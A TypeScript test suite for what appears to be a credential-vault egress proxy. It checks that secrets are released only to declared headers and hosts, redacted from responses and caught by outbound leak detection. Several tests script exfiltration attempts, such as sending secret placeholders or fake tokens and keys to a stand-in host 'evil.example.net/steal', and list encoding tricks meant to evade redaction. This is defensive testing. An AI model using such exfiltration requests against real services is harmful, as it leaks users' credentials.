/**
 * The network door under the release rule (src/vault/release.ts), end to end
 * over real sockets (curl through the proxy to loopback HTTPS origins standing
 * in for public hosts): a secret is swapped only where its declared use puts
 * it; every response from a secret's hosts is redacted of its live values,
 * placeholder or not; outbound DLP skips nothing because a placeholder prefix
 * is written into a credential; and the gaps and the crash issue 11 §4 names.
 */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer } from 'node:https';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import type { AuditRecord } from '../../src/audit/types.ts';
import { Secret } from '../../src/util/secret.ts';
import { curlRaw, EGRESS_KEY, makeCert, OTHER_EGRESS_KEY, startEgress, type TestEgress } from '../helpers/egress.ts';
import { tempDir } from '../helpers/gateway.ts';
import { closeServer, listenLoopback } from '../helpers/servers.ts';


const GITHUB_VALUE = 'ghp_' + 'Rel3aseRu1e'.repeat(3) + 'abc';
const ROTATED_VALUE = 'ghp_' + 'R0tat3dN3w'.repeat(3) + 'abcdef';
const ANY_VALUE = 'opaque-' + 'AnyHeader9'.repeat(3);
const NOHOSTS_VALUE = 'opaque-' + 'N0C0nfigHosts'.repeat(2);

interface Seen {
  readonly url: string;
  readonly headers: IncomingMessage['headers'];
  readonly body: string;
}

/** An HTTPS origin whose answers the tests choose: `respond` by path, else `{"ok":true}`. */
async function startOrigin(tls: { cert: string; key: string }): Promise<{ port: number; seen: Seen[]; respond: Map<string, (res: ServerResponse, req: Seen) => void>; close(): Promise<void> }> {
  const seen: Seen[] = [];
  const respond = new Map<string, (res: ServerResponse, req: Seen) => void>();
  const server = createServer(tls, (req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const one = { url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') };
      seen.push(one);
      const handler = respond.get((req.url ?? '').split('?')[0] ?? '');
      if (handler) return handler(res, one);
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"ok":true}');
    });
  });
  return { port: await listenLoopback(server), seen, respond, close: () => closeServer(server) };
}

/** The status of the last response in curl -i output (after a CONNECT's 200). */
function lastStatus(out: string): number {
  const all = [...out.matchAll(/^HTTP\/1\.1 (\d{3})/gm)].map((m) => Number(m[1]));
  return all.at(-1) ?? 0;
}

function lastReason(out: string): string | undefined {
  return [...out.matchAll(/\r\nbastion-reason: ([^\r\n]+)/gi)].map((m) => m[1]).at(-1);
}

describe('network door: the release rule', () => {
  const certDir = tempDir();
  const githubCert = makeCert(certDir, ['api.github.com'], 'github');
  const evilCert = makeCert(certDir, ['evil.example.net'], 'evil');
  let github: Awaited<ReturnType<typeof startOrigin>>;
  let evil: Awaited<ReturnType<typeof startOrigin>>;
  let eg: TestEgress;
  let proxy: string;
  let otherProxy: string;
  const ph: Record<string, string> = {};

  const records = async (): Promise<AuditRecord[]> => {
    await eg.gateway.audit.flush();
    return eg.gateway.store.readAudit(1, 100_000);
  };
  const via = (p: string, ...args: string[]): Promise<string> => curlRaw(['-x', p, '--cacert', eg.caFile, ...args]);
  const gh = (path: string): string => `https://api.github.com:${github.port}${path}`;

  before(async () => {
    github = await startOrigin(githubCert);
    evil = await startOrigin(evilCert);
    eg = await startEgress(
      `version: 1
server: { listen: 127.0.0.1:0, egress: 127.0.0.1:0 }
store: { sqlite: ./b.db }
vault: { rotationGraceMs: 3600000 }
secrets:
  github: { hosts: [api.github.com] }
  anyheader: { hosts: [api.github.com] }
  nohosts: {}
  ungranted: { hosts: [api.github.com] }
egress:
  staticHosts: { api.github.com: [127.0.0.1], evil.example.net: [127.0.0.1] }
agents:
  demo:
    keys: [env:EGRESS_KEY]
    secrets: [github, anyheader, nohosts]
    # evil.example.net has a methods rule, so it is intercepted and a placeholder sent there is seen.
    network: ["api.github.com:${github.port}", { host: evil.example.net, ports: [${evil.port}], methods: [GET, POST] }]
    unsafeAllowPrivate: { ranges: [127.0.0.1/32] }
  other:
    keys: [env:OTHER_EGRESS_KEY]
    network: ["api.github.com:${github.port}"]
    unsafeAllowPrivate: { ranges: [127.0.0.1/32] }
`,
      { upstreamCa: [githubCert.cert, evilCert.cert] },
    );
    const v = eg.door.vault;
    await v.add('github', new Secret(GITHUB_VALUE), { hosts: ['api.github.com'], header: 'Authorization', format: 'token {}' });
    await v.add('anyheader', new Secret(ANY_VALUE), { hosts: ['api.github.com'] });
    await v.add('nohosts', new Secret(NOHOSTS_VALUE), { hosts: ['api.github.com'] });
    await v.add('ungranted', new Secret('opaque-' + 'Ungr4nted'.repeat(3)), { hosts: ['api.github.com'] });
    for (const name of ['github', 'anyheader', 'nohosts', 'ungranted']) ph[name] = await v.placeholder(name, 'demo');
    proxy = `http://demo:${EGRESS_KEY}@${eg.proxyUrl.host}`;
    otherProxy = `http://other:${OTHER_EGRESS_KEY}@${eg.proxyUrl.host}`;
  });

  after(async () => {
    await eg?.close();
    await Promise.all([github?.close(), evil?.close()]);
  });

  test('a secret stored with a header goes into that header only: another header, the query, the path or the body is refused (release.location), alerted, nothing sent', async () => {
    const n = github.seen.length;
    const ok = await via(proxy, '-H', `Authorization: ${ph.github}`, gh('/ok'));
    assert.equal(lastStatus(ok), 200);
    assert.equal(github.seen[n]?.headers.authorization, `token ${GITHUB_VALUE}`, 'formatted in its own header');
    const alerts = eg.alerts.length;
    const before = github.seen.length;
    for (const args of [
      ['-H', `X-Token: ${ph.github}`, gh('/h')],
      [gh(`/q?token=${ph.github}`)],
      [gh(`/p/${ph.github}`)],
      ['-d', `{"token":"${ph.github}"}`, gh('/b')],
    ]) {
      const out = await via(proxy, ...args);
      assert.equal(lastStatus(out), 403, args.join(' '));
      assert.equal(lastReason(out), 'release.location', args.join(' '));
    }
    assert.equal(github.seen.length, before, 'nothing reached the host');
    assert.deepEqual(
      eg.alerts.slice(alerts).map((a) => [a.reason, a.secrets]),
      Array.from({ length: 4 }, () => ['release.location', ['github']]),
    );
    const rec = (await records()).findLast((r) => r.decision.reason === 'release.location');
    assert.equal(rec?.decision.rule, 'secrets.github.swapIn');
    assert.equal(rec?.detail?.alert, 'exfiltration');
  });

  test('a secret stored without a header goes into any header, not the body unless swapIn says so', async () => {
    const n = github.seen.length;
    const ok = await via(proxy, '-H', `X-Api-Key: ${ph.anyheader}`, gh('/ok'));
    assert.equal(lastStatus(ok), 200);
    assert.equal(github.seen[n]?.headers['x-api-key'], ANY_VALUE);
    const body = await via(proxy, '-d', `key=${ph.anyheader}`, gh('/b'));
    assert.equal(lastReason(body), 'release.location');
  });

  test('a placeholder for a secret whose config declares no hosts, sent to a foreign host, is refused (release.foreign_host) and alerted', async () => {
    const before = evil.seen.length;
    const alerts = eg.alerts.length;
    const out = await via(proxy, '-H', `X-Api-Key: ${ph.nohosts}`, `https://evil.example.net:${evil.port}/steal`);
    assert.equal(lastStatus(out), 403);
    assert.equal(lastReason(out), 'release.foreign_host');
    assert.equal(evil.seen.length, before);
    assert.deepEqual(eg.alerts.slice(alerts), [{ kind: 'exfiltration', agent: 'demo', host: 'evil.example.net', reason: 'release.foreign_host', secrets: ['nohosts'] }]);
    // Its stored hosts still work.
    const n = github.seen.length;
    assert.equal(lastStatus(await via(proxy, '-H', `X-Api-Key: ${ph.nohosts}`, gh('/ok'))), 200);
    assert.equal(github.seen[n]?.headers['x-api-key'], NOHOSTS_VALUE);
  });

  test('a placeholder over plain HTTP to the secret\'s own host is refused (release.insecure_scheme), nothing sent', async () => {
    const before = github.seen.length;
    const out = await curlRaw(['-x', proxy, '-H', `Authorization: ${ph.github}`, `http://api.github.com:${github.port}/plain`]);
    assert.equal(lastStatus(out), 403);
    assert.equal(lastReason(out), 'release.insecure_scheme');
    assert.equal(github.seen.length, before);
  });

  test('a placeholder for a secret the agent is not granted is refused (release.not_granted), alerted', async () => {
    const alerts = eg.alerts.length;
    const out = await via(proxy, '-H', `X-Api-Key: ${ph.ungranted}`, gh('/x'));
    assert.equal(lastStatus(out), 403);
    assert.equal(lastReason(out), 'release.not_granted');
    assert.deepEqual(eg.alerts.slice(alerts).map((a) => a.reason), ['release.not_granted']);
  });

  test('a gzip-compressed request body carrying a placeholder or a credential is refused (415 body.encoded), nothing sent', async () => {
    const dir = tempDir();
    const before = github.seen.length;
    for (const [i, text] of [`{"token":"${ph.anyheader}"}`, `{"leak":"${'ghp_' + 'C0mpressedL34k'.repeat(2) + 'abcdefgh'}"}`].entries()) {
      const file = join(dir, `body${i}.gz`);
      writeFileSync(file, gzipSync(text));
      const out = await via(proxy, '--data-binary', `@${file}`, '-H', 'Content-Encoding: gzip', '-H', 'Content-Type: application/json', gh('/upload'));
      assert.equal(lastStatus(out), 415);
      assert.equal(lastReason(out), 'body.encoded');
    }
    assert.equal(github.seen.length, before, 'nothing reached the host');
  });

  test('every response from a secret\'s host is redacted of its live values, with no placeholder in the request, for an agent granted nothing, including a rotated-out value in its grace', async () => {
    let stored = GITHUB_VALUE;
    github.respond.set('/stored', (res) => {
      res.writeHead(200, { 'content-type': 'application/json', 'x-stored': stored });
      res.end(JSON.stringify({ note: `kept ${stored} here` }));
    });
    for (const p of [proxy, otherProxy]) {
      const n = github.seen.length;
      const out = await via(p, '-H', 'Accept-Encoding: gzip', gh('/stored'));
      assert.equal(lastStatus(out), 200, out.slice(0, 300));
      assert.ok(!out.includes(GITHUB_VALUE), 'the raw value is redacted, body and headers');
      assert.ok(out.includes('[REDACTED:vault-secret]'));
      assert.equal(github.seen[n]?.headers['accept-encoding'], 'identity', 'an identity answer was asked for, so it can be redacted');
    }
    await eg.door.vault.rotate('github', new Secret(ROTATED_VALUE));
    for (const value of [GITHUB_VALUE, ROTATED_VALUE]) {
      stored = value;
      const out = await via(otherProxy, gh('/stored'));
      assert.equal(lastStatus(out), 200);
      assert.ok(!out.includes(value), value === GITHUB_VALUE ? 'the old version, in its grace' : 'the new version');
    }
    const rec = (await records()).findLast((r) => r.agent === 'other' && r.detail?.redactions !== undefined);
    assert.ok(rec, 'the record counts the redactions');
  });

  test('a secret\'s host handing a value back encoded (base64 at every alignment, base64url, hex, \\u escapes, HTML entities, percent-encoding, split across JSON fields) gets it redacted', async () => {
    // The current value of `github` (the test before rotated it).
    const value = ROTATED_VALUE;
    const b64 = (prefix: string): string => Buffer.from(prefix + value).toString('base64');
    const forms: Record<string, string> = {
      b64a0: b64(''),
      b64a1: b64('x'),
      b64a2: b64('xy'),
      b64url: Buffer.from(value).toString('base64url'),
      hex: Buffer.from(value).toString('hex'),
      uescape: [...value].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
      html: [...value].map((c) => `&#${c.charCodeAt(0)};`).join(''),
      percent: [...value].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join(''),
    };
    const half = Math.floor(value.length / 2);
    github.respond.set('/encoded', (res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      // Hand-built JSON so the \u escapes reach the client as written.
      res.end(`{${Object.entries(forms).map(([k, v]) => `"${k}":"${v}"`).join(',')},"first":"${value.slice(0, half)}","second":"${value.slice(half)}"}`);
    });
    const out = await via(otherProxy, gh('/encoded'));
    assert.equal(lastStatus(out), 200);
    const body = JSON.parse(out.slice(out.lastIndexOf('\r\n\r\n') + 4)) as Record<string, string>;
    const decoded: Record<string, string> = {
      b64a0: Buffer.from(body.b64a0 ?? '', 'base64').toString('latin1'),
      b64a1: Buffer.from(body.b64a1 ?? '', 'base64').toString('latin1'),
      b64a2: Buffer.from(body.b64a2 ?? '', 'base64').toString('latin1'),
      b64url: Buffer.from(body.b64url ?? '', 'base64url').toString('latin1'),
      hex: Buffer.from(body.hex ?? '', 'hex').toString('latin1'),
      uescape: body.uescape ?? '',
      html: (body.html ?? '').replace(/&#(\d+);/g, (_m, d: string) => String.fromCharCode(Number(d))),
      percent: decodeURIComponent(body.percent ?? ''),
      split: (body.first ?? '') + (body.second ?? ''),
    };
    for (const [form, text] of Object.entries(decoded)) assert.ok(!text.includes(value.slice(4, 24)), `${form} still decodes to the value`);
  });

  test('an unknown Content-Encoding from a secret-bound host answering a swapped request: 502 upstream.unknown_encoding, audited, and the proxy survives (it used to crash the process)', async () => {
    let uncaught = 0;
    const count = (): void => {
      uncaught++;
    };
    process.on('uncaughtException', count);
    try {
      // A short body, complete on the wire but unread when the proxy gives up on it: destroying it raised an
      // error (undici's RequestAbortedError) with no listener, which ended the process.
      github.respond.set('/weird', (res) => {
        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-encoding': 'x-bastion-unknown' });
        res.end(Buffer.from('not really encoded'));
      });
      // A long body still coming.
      github.respond.set('/weird-long', (res) => {
        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-encoding': 'x-bastion-unknown' });
        res.write(Buffer.alloc(256 * 1024, 7));
        const timer = setInterval(() => res.write(Buffer.alloc(64 * 1024, 7)), 20);
        setTimeout(() => {
          clearInterval(timer);
          res.end();
        }, 1000);
        res.on('close', () => clearInterval(timer));
      });
      for (const path of ['/weird', '/weird-long', '/weird']) {
        const out = await via(proxy, '-H', `Authorization: ${ph.github}`, gh(path));
        assert.equal(lastStatus(out), 502, out.slice(0, 300));
        assert.equal(lastReason(out), 'upstream.unknown_encoding');
      }
      await new Promise((r) => setTimeout(r, 300));
      assert.equal(uncaught, 0, 'no uncaught error');
      const later = await via(proxy, '-H', `Authorization: ${ph.github}`, gh('/ok'));
      assert.equal(lastStatus(later), 200, 'the proxy still answers');
      // Without a placeholder too: every response of a secret's host is redacted, so an unreadable one is refused.
      const plain = await via(proxy, gh('/weird'));
      assert.equal(lastReason(plain), 'upstream.unknown_encoding');
      await new Promise((r) => setTimeout(r, 100));
      assert.equal(uncaught, 0, 'no uncaught error');
      const recs = (await records()).filter((r) => r.decision.reason === 'upstream.unknown_encoding').slice(-2);
      assert.deepEqual(
        recs.map((r) => [r.detail?.status, r.detail?.secrets]),
        [
          [502, ['github']],
          [502, undefined],
        ],
      );
    } finally {
      process.off('uncaughtException', count);
    }
  });

  test('outbound DLP skips no finding because a placeholder prefix is written into it; a real placeholder is still no finding', async () => {
    const pem = [
      '-----BEGIN PRIVATE KEY-----',
      'Comment: bst_ph_ and <<SECRET_ here',
      'MC4CAQAwBQYDK2VwBCIEIN' + 'q'.repeat(40),
      'A'.repeat(64),
      '-----END PRIVATE KEY-----',
    ].join('\n');
    const pat = 'github_pat_11A9kQ2mZ7xR4vB8nL3pT6wY1c' + 'bst_ph_' + 'Hj5Ks8Df2Gq7Wl4Zx9Cv3Bn6Mm1Pr0TyE4uI';
    const before = [github.seen.length, evil.seen.length];
    for (const [body, url] of [
      [JSON.stringify({ key: pem }), gh('/upload')],
      [`token=${pat}`, `https://evil.example.net:${evil.port}/upload`],
    ] as const) {
      const out = await via(proxy, '--data-binary', body, url);
      assert.equal(lastStatus(out), 403, body.slice(0, 40));
      assert.equal(lastReason(out), 'dlp.credential', body.slice(0, 40));
    }
    assert.deepEqual([github.seen.length, evil.seen.length], before, 'nothing was sent');
    const n = github.seen.length;
    const ok = await via(proxy, '-H', `Authorization: ${ph.github}`, '-H', `X-Note: token=${ph.anyheader}`, gh('/ok'));
    assert.equal(lastStatus(ok), 200, 'a placeholder in an assignment is not flagged');
    assert.equal(github.seen[n]?.headers['x-note'], `token=${ANY_VALUE}`);
  });

  test('no value and no placeholder of a named secret in the audit chain', async () => {
    const all = JSON.stringify(await records());
    for (const v of [GITHUB_VALUE, ROTATED_VALUE, ANY_VALUE, NOHOSTS_VALUE, ...Object.values(ph)]) assert.ok(!all.includes(v));
  });
});
